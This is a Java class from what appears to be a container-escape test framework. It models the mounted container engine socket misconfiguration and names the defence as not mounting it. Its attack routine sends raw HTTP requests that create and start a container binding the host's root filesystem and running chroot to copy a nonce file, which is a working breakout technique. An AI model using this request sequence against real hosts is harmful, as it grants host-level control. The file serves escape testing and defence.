package nutshell.escapes;

import java.util.List;

/** Asks a container engine for a container that has the host's disk; whoever can write to its socket may. */
record RuntimeSocket() implements Escape {

    @Override
    public String word() {
        return "runtime-socket";
    }

    @Override
    public String mistake() {
        return "a container engine's socket is mounted, or the directory that holds it";
    }

    @Override
    public Defence fix() {
        return Defence.NO_MOUNT;
    }

    @Override
    public void make(Blueprint blueprint, Stake stake) {
        HostServices services = stake.services();
        blueprint.mount(new HostMount(services.directory(), "host", false, false));
    }

    @Override
    public List<Attack> ways(Scene scene) {
        Stake stake = scene.stake();
        String body = "{\"Image\":\"stand-in\",\"Cmd\":[\"chroot\",\"/host\",\"/bin/cp\",\"%s\",\"%s\"],"
                        .formatted(stake.nonceFile(), stake.left())
                + "\"HostConfig\":{\"Binds\":[\"/:/host\"]}}";
        return List.of(attacker -> {
            int engine = attacker.note("the engine's socket")
                    .connect(scene.at(stake.services().engineSocket()));
            attacker.note("a container with / of the host, please").send(engine, request("create?name=out", body));
            attacker.tell(engine);
            attacker.send(engine, request("out/start", ""));
            attacker.tell(engine);
        });
    }

    private static String request(String what, String body) {
        return "POST /containers/%s HTTP/1.1\r\nHost: engine\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
                .formatted(what, body.length(), body);
    }
}
